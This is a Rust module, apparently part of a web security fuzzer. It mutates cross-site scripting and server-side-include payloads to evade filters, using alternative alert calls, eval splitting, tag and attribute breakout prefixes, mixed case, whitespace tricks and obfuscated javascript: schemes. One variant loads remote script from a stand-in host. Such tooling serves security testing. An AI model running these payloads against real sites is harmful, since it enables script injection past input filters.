//! Markup: case, what separates attributes, what the value breaks out of, which function proves it.

/// Scripts in pages.
pub fn vary(seed: &str) -> Vec<String> {
    let mut out = Vec::new();
    for call in [
        "confirm(1)",
        "prompt(1)",
        "print()",
        "console.log(1)",
        "alert(document.domain)",
        "alert`1`",
        "window.alert(1)",
        "(alert)(1)",
        "alert?.(1)",
        "\\u0061lert(1)",
        "eval('ale'+'rt(1)')",
        "import('//x.example/x.js')",
    ] {
        if seed.contains("alert(1)") {
            out.push(seed.replace("alert(1)", call));
        }
    }
    let is_markup = seed.starts_with('<') && seed.contains('>');
    if is_markup {
        for before in
            ["\">", "'>", "x\" >", "</title>", "</textarea>", "</style>", "-->", "]]>", "</script>", "test "]
        {
            out.push(format!("{before}{seed}"));
        }
        for space in ["/", "\t", "\n", "\r\n", "\u{c}", "//", "/x/"] {
            out.push(seed.replacen(' ', space, 1));
        }
        out.push(tags(seed));
        out.push(format!("{seed}//"));
        out.push(seed.trim_end_matches('>').to_owned());
        out.push(format!("<<x>{seed}"));
    }
    for handler in ["onerror=", "onload="] {
        if let Some((before, after)) = seed.split_once(handler) {
            for other in ["=\n", "= ", "\t=", " =\t"] {
                out.push(format!("{before}{}{other}{after}", handler.trim_end_matches('=')));
            }
        }
    }
    if seed.contains("javascript:") {
        for scheme in [
            "JaVaScRiPt:",
            "java\tscript:",
            "java\nscript:",
            "javascript\t:",
            "\u{1}javascript:",
            "javascript:void(0);",
            "javascript://%0a",
            "&#x6a;avascript:",
            "javascript&colon;",
        ] {
            out.push(seed.replace("javascript:", scheme));
        }
    }
    out
}

/// Names of elements and attributes in mixed case; what stands in quotes and after `=` stays, for
/// script is case-sensitive.
fn tags(seed: &str) -> String {
    let mut out = String::new();
    let mut value = false;
    let mut upper = true;
    for c in seed.chars() {
        match c {
            '=' | '(' | '"' | '\'' => value = true,
            ' ' | '<' => value = false,
            // What follows an opening tag is text or script.
            '>' => value = true,
            _ => {}
        }
        upper = !upper;
        out.push(if !value && upper { c.to_ascii_uppercase() } else { c });
    }
    out
}

/// Server-side includes.
pub fn include(seed: &str) -> Vec<String> {
    let mut out: Vec<String> = ["\">", "x", "</p>"].iter().map(|before| format!("{before}{seed}")).collect();
    out.push(super::alternating(seed));
    out.push(seed.replacen(' ', "\t", 1));
    out.push(seed.replacen(' ', "  ", 1));
    out
}
